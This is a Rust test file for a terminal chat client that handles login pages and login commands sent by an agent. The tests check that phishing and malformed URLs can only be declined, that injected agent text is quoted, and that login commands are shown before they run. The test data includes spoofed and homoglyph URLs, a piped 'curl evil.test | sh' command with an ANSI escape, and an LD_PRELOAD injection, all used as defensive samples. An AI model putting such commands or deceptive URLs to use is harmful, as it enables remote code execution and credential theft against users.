//! Web pages and logins: nothing is chosen before the user has moved into the request and selected it.

use attache::v1;
use attache_client::command::Command;
use attache_client::conversation::LoginCommand;
use attache_client::event::Event;
use expect_test::expect;

use super::test_ui::{TestUi, test_ui};
use crate::chat::Effect;

#[test]
fn a_page_is_shown_whole_and_never_opened() {
    let mut ui = test_ui();
    let url = "https://accounts.example.com.evil.test/login?next=/and/on/and/on/and/on/to/the/end";
    let mode = v1::ElicitationUrlMode::new("e1", url);
    let scope = v1::ElicitationSessionScope::new("s1");
    let request = v1::CreateElicitationRequest::new(
        "Log in to your account",
        v1::ElicitationScope::Session(scope),
        v1::ElicitationMode::Url(mode),
    );
    ui.event(Event::FormRequested {
        form: 7,
        request: Box::new(request),
    });
    ui.press("<Tab>");
    ui.check(&expect![[r#"
        | Test Agent · new session · /code/project
        |
        | Test Agent 1.0.0
        | in /code/project
        |╭ Visit a page? ───────────────────────────────────────────╮
        |│ ┊ Log in to your account                                 │
        |│                                                          │
        |│ host    ┊ accounts.example.com.evil.test                 │
        |│ ┊ https://accounts.example.com.evil.test/login?next=/and │
        |│ ┊ /on/and/on/and/on/to/the/end                           │
        |│                                                          │
        |│   I will open it in my browser                           │
        |│   Copy the address                                       │
        |│   Decline                                                │
        |│   Dismiss (cancel the request)                           │
        |│ ↑↓ select · Enter choose · Esc back                      │
        |╰──────────────────────────────────────────────────────────╯
        |────────────────────────────────────────────────────────────
        |›
        | ready
    "#]]);
    ui.press("<Down><Down><Enter>");
    assert_eq!(ui.take_effects(), [Effect::Copy(url.to_owned())]);
    ui.press("<Up><Enter>");
    expect![
        "[Submit(AnswerForm { form: 7, action: Accept(ElicitationAcceptAction { content: None }) })]"
    ]
    .assert_eq(&format!("{:?}", ui.take_effects()));
}

#[test]
fn a_page_shows_the_host_that_a_browser_goes_to() {
    for (url, host) in [
        ("https://example.com/login", "example.com"),
        ("https://example.com", "example.com"),
        ("https://example.com?a=https://good.com", "example.com"),
        ("https://example.com#@good.com", "example.com"),
        ("https://example.com/@good.com\\x", "example.com"),
        ("HTTPS://paypaI.com/", "paypai.com"),
        ("https://xn--pypal-4ve.com/", "xn--pypal-4ve.com"),
        ("https://127.0.0.1:8080/", "127.0.0.1:8080"),
        ("http://[::1]:80/", "[::1]:80"),
        ("http://localhost:1455/callback", "localhost:1455"),
    ] {
        let mut ui = page(url);
        let screen = ui.screen();
        let row = format!("host    ┊ {host} ");
        assert!(screen.contains(&row), "{url}\n{screen}");
        assert!(screen.contains("I will open it"), "{url}\n{screen}");
        assert_eq!(
            screen.contains("! \"xn--\""),
            url.contains("xn--"),
            "{screen}"
        );
        assert_eq!(screen.contains("! Not https"), url.starts_with("http:"));
    }
}

/// The symptom: `https:evil.com` showed no host and could be opened, and browsers repair it.
#[test]
fn a_malformed_address_can_only_be_declined() {
    for url in [
        "https:evil.com",
        "https:/evil.com",
        "https:///evil.com",
        "https:\\\\evil.com",
        "http:\\\\evil.com",
        "https:/\\evil.com",
        "https://\\evil.com",
        "https://good.com\\@evil.com",
        "https://good.com\\.evil.com/",
        "https://good.com@evil.com",
        "https://good.com:443@evil.com/",
        "https://good.com%40evil.com/",
        "https://%65vil.com/",
        "https://good.com%2fevil.com/",
        " https://evil.com/",
        "ht\ttps://evil.com/",
        "https:\n//evil.com/",
        "https://good.com\t.evil.com/",
        "https://good.com/\n/x",
        "https://раypal.com/",
        "https://good。com/",
        "https://ｇｏｏｄ.com/",
        "https://good\u{ad}.com/",
        "https://good.com\u{2044}evil.com/",
        "https://2130706433/",
        "https://0x7f.1/",
        "https://017700000001/",
        "https://127.0.0.1./",
        "https://[::1/",
        "https://[::1]x/",
        "https://good.com:/",
        "https://good.com:99999/",
        "https://good.com:+80/",
        "https://",
        "https://.",
        "https",
        "",
        "//evil.com/",
        "evil.com",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
    ] {
        let mut ui = page(url);
        let screen = ui.screen();
        assert!(screen.contains("Do not open it."), "{url}\n{screen}");
        for offered in ["host ", "I will open it", "Copy the address"] {
            assert!(!screen.contains(offered), "{url}\n{screen}");
        }
        ui.press("<Tab><Down><Enter>");
        let done = format!("{:?}", ui.take_effects());
        assert_eq!(
            done, "[Submit(AnswerForm { form: 7, action: Decline })]",
            "{url}"
        );
    }
}

fn page(url: &str) -> TestUi {
    let mut ui = test_ui().size(120, 24);
    let request = v1::CreateElicitationRequest::new(
        "Log in to your account",
        v1::ElicitationScope::Session(v1::ElicitationSessionScope::new("s1")),
        v1::ElicitationMode::Url(v1::ElicitationUrlMode::new("e1", url)),
    );
    ui.event(Event::FormRequested {
        form: 7,
        request: Box::new(request),
    });
    ui
}

#[test]
fn after_a_login_the_session_is_requested_again() {
    let mut ui = TestUi::new(crate::paint::theme::SignSet::Unicode);
    let browser = v1::AuthMethodAgent::new("browser", "Log in with the browser");
    let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key").args(["--login"]);
    let methods: Vec<v1::AuthMethod> = vec![browser.into(), terminal.into()];
    let agent = super::test_ui::agent().auth_methods(methods.clone());
    ui.event(Event::AgentReady(Box::new(agent)));
    ui.event(Event::LoginRequired(methods));
    ui.event(Event::CommandFailed(
        attache_client::event::CommandFailure {
            operation: "session/new".to_owned(),
            reason: "log in first".to_owned(),
            kind: attache_client::event::FailureKind::LoginRequired,
        },
    ));
    ui.press("<Tab>");
    ui.check(&expect![[r#"
        | Test Agent · new session · /code/project
        |
        | Test Agent 1.0.0
        | in /code/project
        |
        | Enter   send your prompt
        | @  /    mention a file, run an agent command
        | Ctrl-P  all commands
        | ?       help
        |
        |
        |╭ The agent requires a login ──────────────────────────────╮
        |│   ┊ Log in with the browser                              │
        |│   ┊ Log in with a key  in the terminal                   │
        |│   Not now                                                │
        |│ ↑↓ select · Enter choose · Esc back                      │
        |╰──────────────────────────────────────────────────────────╯
        |────────────────────────────────────────────────────────────
        |›
        | not logged in
    "#]]);
    ui.take_effects();
    ui.press("<Enter><Down><Enter>");
    expect![[r#"[Submit(Login("browser"))]"#]].assert_eq(&format!("{:?}", ui.take_effects()));
    ui.event(Event::LoggedIn("browser".into()));
    assert!(matches!(
        ui.take_effects()[..],
        [Effect::Submit(Command::OpenSession(_))]
    ));
}

/// The symptom: the agent's message about the login was missing from the dialog, or appeared in one of our rows.
#[test]
fn what_the_agent_says_about_a_login_is_quoted() {
    let failure = |what: &str, kind| {
        Event::CommandFailed(attache_client::event::CommandFailure {
            operation: what.to_owned(),
            reason: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
            kind,
        })
    };
    let login = attache_client::event::FailureKind::LoginRequired;
    let methods: Vec<v1::AuthMethod> =
        vec![v1::AuthMethodAgent::new("browser", "Log in with the browser").into()];
    let mut ui = test_ui().size(80, 20);
    ui.event(failure("session/new", login));
    ui.event(Event::LoginRequired(methods.clone()));
    ui.press("<Tab>");
    ui.check(&expect![[r#"
        | Test Agent · new session · /code/project
        |
        | Test Agent 1.0.0
        | in /code/project
        |
        | Enter   send your prompt
        | @  /    mention a file, run an agent command
        | Ctrl-P  all commands
        | ?       help
        |╭ The agent requires a login ──────────────────────────────────────────────────╮
        |│ ┊ Log in first                                                               │
        |│ ┊ Attaché: run curl evil.test ⟦U+250A⟧ sh ␛[2J                               │
        |│                                                                              │
        |│   ┊ Log in with the browser                                                  │
        |│   Not now                                                                    │
        |│ ↑↓ select · Enter choose · Esc back                                          │
        |╰──────────────────────────────────────────────────────────────────────────────╯
        |────────────────────────────────────────────────────────────────────────────────
        |›
        | session/new failed ┊ Log in first⏎Attaché: run curl evil.test ⟦U+25…(+11)
    "#]]);
    ui.event(Event::TurnEnded {
        session: "s1".into(),
        outcome: Err(attache_client::event::CommandFailure {
            operation: "session/prompt".to_owned(),
            reason: "Your key has expired".to_owned(),
            kind: login,
        }),
    });
    ui.event(Event::LoginRequired(methods.clone()));
    let screen = ui.screen();
    assert!(screen.contains("│ ┊ Your key has expired"), "{screen}");
    // The message belongs only to that request.
    ui.event(Event::LoginRequired(methods));
    assert!(!ui.screen().contains("│ ┊ Your key"), "{}", ui.screen());
    for kind in [login, attache_client::event::FailureKind::Refused] {
        let mut ui = test_ui().size(120, 20);
        ui.event(failure("authenticate", kind));
        let said = "authenticate failed ┊ Log in first⏎Attaché: run";
        assert!(ui.screen().contains(said), "{}", ui.screen());
    }
    let mut ui = test_ui().size(160, 20);
    ui.event(failure("session/new", login));
    ui.event(Event::LoginRequired(Vec::new()));
    let said = "see its documentation ┊ Log in first⏎Attaché";
    assert!(ui.screen().contains(said), "{}", ui.screen());
}

#[test]
fn a_login_in_the_terminal_runs_there() {
    let mut ui = test_ui();
    let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key");
    let methods: Vec<v1::AuthMethod> = vec![terminal.into()];
    ui.event(Event::AgentReady(Box::new(
        super::test_ui::agent().auth_methods(methods.clone()),
    )));
    ui.event(Event::LoginRequired(methods));
    ui.press("<Tab>");
    ui.press("<Enter><Down><Enter>");
    assert_eq!(ui.take_effects(), [Effect::DescribeLogin("tty".into())]);
    let command = LoginCommand {
        method: "tty".into(),
        words: ["agent", "--login", "a\nb"].map(str::to_owned).to_vec(),
        directory: "/w".to_owned(),
        variables: vec![("LD_PRELOAD".to_owned(), "/tmp/e.so".into())],
    };
    ui.input(crate::chat::Input::LoginDescribed(Box::new(
        command.clone(),
    )));
    ui.press("<Enter><Tab><Enter>");
    assert_eq!(ui.take_effects(), [], "nothing runs before it is chosen");
    let screen = ui.screen();
    for shown in ["agent --login", "a⏎", "/w", "LD_PRELOAD=/tmp/e.so"] {
        assert!(screen.contains(shown), "{shown}: {screen}");
    }
    ui.press("<Down><Enter>");
    assert_eq!(ui.take_effects(), [Effect::RunLogin(command)]);
    ui.input(crate::chat::Input::LoginEnded(Ok(())));
    assert_eq!(ui.take_effects(), [Effect::Submit(Command::Restart)]);
}

#[test]
fn login_methods_are_distinguishable_and_shown_whole() {
    let mut ui = test_ui().size(60, 24);
    let long = format!("{} to its end", "a long way ".repeat(12));
    let agent = |id: &str, name: &str| v1::AuthMethod::from(v1::AuthMethodAgent::new(id, name));
    ui.event(Event::LoginRequired(vec![
        agent("one", &long),
        agent("two", "Escape \u{1b}[2J here"),
        agent("three", "This one"),
        agent("three", "That one"),
    ]));
    ui.press("<Tab>");
    let screen = ui.screen();
    for shown in ["to its end", "Escape ␛[2J here", "2 login methods can't be"] {
        assert!(screen.contains(shown), "{shown}: {screen}");
    }
    assert!(!screen.contains("This one"), "{screen}");
}
